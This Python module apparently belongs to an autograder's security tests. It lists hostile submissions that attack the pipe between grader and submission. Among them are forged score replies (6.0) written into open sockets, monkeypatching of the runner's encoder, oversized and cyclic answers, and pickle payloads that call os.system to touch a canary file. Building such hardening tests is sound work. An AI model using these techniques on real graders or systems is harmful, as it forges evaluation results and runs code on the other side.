"""the pipe between grader and submission"""

from ..attack import Attack
from .lies import RULES

SOCKETS = """
def sockets():
    # the numbers of all open sockets and pipes but the standard ones
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/self/fd/{fd}").startswith(("socket:", "pipe:")):
                yield fd

def send(fd, data):
    with contextlib.suppress(OSError):
        os.set_blocking(fd, False)
        os.write(fd, data)

"""
CHANNELS = """
def channels():
    # whatever in this process can send and receive
    for found in gc.get_objects():
        with contextlib.suppress(Exception):
            if type(found).__module__.startswith("autograder") and hasattr(found, "send"):
                yield found

def say(header, buffers=()):
    for channel in channels():
        with contextlib.suppress(Exception):
            channel.send(header, list(buffers))

"""
FORGED = """
replies = [{"value": 6.0, "error": None, "printed": "", "after": {}}, {"ok": True, "score": 6.0}, {"verdict": 6.0},
           {"checks": [{"id": "check-rules", "score": 6.0, "points": 6.0, "status": "judged"}]}]
"""


def answers(name: str, tries: str, value: str, code: str = "import numpy", **more) -> Attack:
    """Return an attack whose functions of two exercises answer with this value."""
    cells = {"judge": f"precision_recall_f1 = lambda *a, **k: {value}"}
    return Attack(name, tries, code + RULES + value, cells=cells, **more)


ATTACKS = [
    Attack(
        "garbage",
        "Writes random bytes into every open socket and pipe.",
        SOCKETS + "for fd in list(sockets()):\n    send(fd, os.urandom(5000))",
    ),
    Attack(
        "forged-frames",
        "Writes well-formed replies into every open socket, with each kind of length before them.",
        SOCKETS
        + FORGED
        + """
for fd in list(sockets()):
    for reply in replies:
        body = json.dumps(reply).encode()
        for form in (">I", "<I", ">Q", "<Q"):
            send(fd, struct.pack(form, len(body)) + body)""",
    ),
    Attack(
        "forged-replies",
        "Finds the channel among its objects and sends verdicts and replies before it is asked.",
        CHANNELS + FORGED + "for reply in replies * 20:\n    say(reply)",
    ),
    Attack(
        "endless-frame",
        "Announces a frame of many gigabytes and sends it byte by byte.",
        SOCKETS
        + """
found = list(sockets())
for fd in found:
    send(fd, struct.pack(">Q", 2**40) + struct.pack(">I", 2**31))
for _ in range(40):
    time.sleep(0.5)
    for fd in found:
        send(fd, b"x")""",
        shows="a delay",
        alone=True,
    ),
    Attack("closed", "Closes every file and socket of its process.", "os.closerange(3, 256)", alone=True),
    Attack(
        "not-exported",
        "Asks the other side for callbacks, names and objects that it was never handed.",
        CHANNELS
        + """
def names_medicine(text, medicines):
    for number in range(50):
        say({"op": "callback", "id": number, "args": [], "kwargs": {}})
        say({"op": "call", "handle": number, "args": [], "kwargs": {}})
    for name in ("score", "check", "expected", "__builtins__"):
        say({"op": "get", "name": name}), say({"op": "attr", "handle": 0, "name": "__globals__"})
    say({"op": "bye"}), say({"op": "cell", "id": "x", "source": "open(%r, 'w')" % str(CANARY)})

mostly_capitals = promises_money = lambda text: names_medicine(text, None)""",
        shows="the canary",
    ),
    answers(
        "false-handles",
        "Returns data that looks like the codec's own nodes and handles.",
        "[{'handle': 0, 'id': 0, 'kind': 'function', 'name': 'score'}, {'type': 'callback', 'id': 0},"
        " {'value': True}, ['ndarray', 'float64', [3], 0], {'$': 'pickle', 'buffer': 0}]",
    ),
    answers("huge-list", "Answers with a list of ten million numbers.", "[0.0] * 10_000_000", shows="a delay"),
    answers("huge-array", "Answers with an array of 2 GB.", "numpy.zeros(2**28)", shows="a delay"),
    answers(
        "endless-array",
        "Answers with an array that takes no memory here and terabytes when it is sent.",
        "numpy.broadcast_to(0.0, (10**6, 10**6))",
        shows="a delay",
    ),
    answers(
        "deep-list",
        "Answers with a list in a list, a hundred thousand deep.",
        "deep()",
        """
def deep():
    value = []
    for _ in range(100_000):
        value = [value]
    return value
""",
    ),
    answers(
        "cyclic",
        "Answers with a list that contains itself.",
        "cycle()",
        """
def cycle():
    value = []
    value.append(value)
    return [value, {"self": value}]
""",
    ),
    answers(
        "endless-iterator",
        "Answers with an object that has no end when it is walked through.",
        "Endless()",
        """
class Endless:
    __len__ = lambda self: 2**60
    __iter__ = lambda self: self
    __next__ = __getitem__ = __getattr__ = lambda self, *key: self
""",
        shows="a delay",
    ),
    answers(
        "pickled-command",
        "Answers with an object that runs a command where it is unpickled.",
        "Payload()",
        """
class Payload:
    def __reduce__(self):
        return os.system, (f"mkdir -p '{CANARY.parent}' && echo touched > '{CANARY}'",)
""",
        shows="the canary",
    ),
    answers(
        "odd-arrays",
        "Answers with arrays of objects, dates and records, read-only, with odd strides.",
        "odd()",
        """
import numpy

def odd():
    records = numpy.zeros(3, dtype=[("a", "f8"), ("b", "O")])
    return [numpy.array([object(), None], dtype=object), numpy.array(["2026-01-01"], dtype="M8[D]"), records,
            numpy.lib.stride_tricks.as_strided(numpy.zeros(1), (2**20,), (0,)), numpy.zeros(3, dtype="g"),
            numpy.ma.masked_all(3), numpy.zeros((0,) * 60)]
""",
    ),
    answers(
        "odd-texts",
        "Answers with lone surrogates, NULs, keys that are no text, and NaN as a key.",
        "{'\\ud800': 1, '\\0' * 10: 2, float('nan'): 3, (1, 2): '\\u202e', None: b'\\xff', 10**5000: 1}",
    ),
    Attack(
        "error-that-lies",
        "Raises errors whose text is endless, whose class lies, or whose printing fails.",
        """
class Hostile(Exception):
    __str__ = __repr__ = lambda self: "x" * 100_000_000

class Worse(BaseException):
    def __str__(self):
        raise SystemExit(0)

def names_medicine(text, medicines):
    raise Hostile()

def mostly_capitals(text):
    raise Worse()

def promises_money(text):
    raise type("NotImplementedError", (KeyboardInterrupt,), {"__module__": "builtins"})()""",
    ),
    answers(
        "slow-value",
        "Answers with an object whose every attribute takes 2 s.",
        "Slow()",
        """
class Slow:
    def __getattribute__(self, name):
        time.sleep(2)
        return object.__getattribute__(self, name)
""",
        shows="a delay",
    ),
    answers(
        "just-below-the-limits",
        "Answers every call with as much data as may just pass: two million numbers, a deep nest, long texts.",
        "[list(range(1_900_000)), [[[['x' * 1_000_000]]]], 7**300_000]",
        shows="a delay",
    ),
    Attack(
        "forged-nodes",
        "Patches the runner's own encoder, so that every value goes out as a hostile node with a pickle beside it.",
        """
import itertools

def names_medicine(text, medicines=None):
    return 0.0

mostly_capitals = promises_money = names_medicine
nodes = itertools.cycle([
    {"is": "callback", "id": 1}, {"is": "handle", "id": -1}, {"is": "handle", "id": 2**80}, {"is": "object", "at": 0},
    {"is": "handle", "id": 1, "kind": "class", "type": "ndarray", "name": "list", "parameters": ["x"] * 10**5},
    {"is": "array", "dtype": "|O", "shape": [3], "at": 0}, {"is": "array", "dtype": "<f8", "shape": [2**62], "at": 0},
    {"is": "list", "items": "x"}, {"is": "int", "hex": "f" * 262_000}, {"is": "bool", "value": True}, {"is": []},
    {"is": "sparse", "format": "csr", "kind": "matrix", "shape": [2**40, 2**40], "parts": [0, 0, 0]},
    {"is": "tensor", "dtype": "__class__", "shape": [], "at": 0}, {"is": "range", "parts": [0, 2**62, 1]},
    {"is": "dict", "items": [[1, 2], [1, 3]]}, {"is": "slice", "parts": [{"is": "str", "at": 0}] * 3}, "x", 10**400, {},
])
command = f"mkdir -p '{CANARY.parent}'; echo touched > '{CANARY}'"
payload = b"cos\\nsystem\\n(S" + repr(command).encode() + b"\\ntR."

def hostile(value, out, objects):
    out.append(payload)
    return next(nodes)

for module in [m for n, m in sys.modules.items() if n.startswith("autograder.runner")]:
    if hasattr(module, "encode"):
        module.encode = hostile""",
        shows="the canary",
    ),
    Attack(
        "forged-errors",
        "Patches what the runner tells of errors: classes that end loops and processes, endless lists of names.",
        """
import itertools
kinds = itertools.cycle(["builtins.StopIteration", "builtins.SystemExit", "builtins.KeyboardInterrupt", "CaseTimeout",
                         "builtins.NotImplementedError", "helpers.checks.case.CaseTimeout", "builtins.GeneratorExit"])

def told(error):
    return {"types": [next(kinds)] * 50_000, "message": "6.0" * 100_000, "line": -1, "text": {"x": 1}}

def names_medicine(text, medicines=None):
    raise ValueError

mostly_capitals = promises_money = names_medicine
for module in [m for n, m in sys.modules.items() if n.startswith("autograder.runner")]:
    if hasattr(module, "told"):
        module.told = told""",
    ),
]
